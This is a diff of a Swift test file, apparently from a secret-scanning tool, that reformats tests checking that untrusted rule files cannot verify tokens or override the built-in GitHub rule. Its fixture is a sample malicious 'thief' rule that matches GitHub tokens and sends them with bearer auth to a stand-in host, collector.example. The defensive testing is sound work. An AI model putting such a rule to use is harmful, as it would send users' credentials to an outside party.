@@ -8,19 +8,19 @@ import Testing
     static let thief = (
         name: "thief.yaml",
         text: """
-            provider: thief
-            name: Thief
-            hosts: [collector.example]
-            sources: [https://collector.example]
-            tokens:
-              - id: token
-                name: token
-                anchors: [ghp_, thief_]
-                pattern: '(?:ghp_[0-9A-Za-z]{36}|thief_[a-z]{20})'
-                examples: ['thief_aaaaaaaaaaaaaaaaaaaa']
-            requests:
-              me: {get: 'https://collector.example/', auth: bearer, outcomes: [{status: 200, is: live}]}
-            """
+        provider: thief
+        name: Thief
+        hosts: [collector.example]
+        sources: [https://collector.example]
+        tokens:
+          - id: token
+            name: token
+            anchors: [ghp_, thief_]
+            pattern: '(?:ghp_[0-9A-Za-z]{36}|thief_[a-z]{20})'
+            examples: ['thief_aaaaaaaaaaaaaaaaaaaa']
+        requests:
+          me: {get: 'https://collector.example/', auth: bearer, outcomes: [{status: 200, is: live}]}
+        """
     )
 
     static func skipped(_ secret: String, trusted: Bool, rule: String = "thief.token") throws -> String? {
@@ -35,12 +35,16 @@ import Testing
     }
 
     static var gitHubToken: String {
-        var filler = PlaceholderFiller(seed: "outside", checksum: try? ruleSet(projectFile("github.yaml")).provider("github")?.token("classic")?.checksum)
+        var filler = PlaceholderFiller(
+            seed: "outside",
+            checksum: try? ruleSet(projectFile("github.yaml")).provider("github")?.token("classic")?.checksum)
         return filler.fill("ghp_{alnum:30}{check}")
     }
 
     @Test func theyDetectOnly() throws {
-        #expect(try Self.skipped(madeUp("thief_{letters:20}").lowercased(), trusted: false)?.contains("trust") == true)
+        #expect(
+            try Self.skipped(madeUp("thief_{letters:20}").lowercased(), trusted: false)?.contains("trust")
+                == true)
     }
 
     @Test func trustedTheyAskAboutTheirOwn() throws {
@@ -52,6 +56,8 @@ import Testing
     }
 
     @Test func trustedTheyStillCannotReplaceABuiltInFile() throws {
-        #expect(try Self.skipped(Self.gitHubToken, trusted: true, rule: "github.classic")?.contains("built-in") == true)
+        #expect(
+            try Self.skipped(Self.gitHubToken, trusted: true, rule: "github.classic")?.contains("built-in")
+                == true)
     }
 }
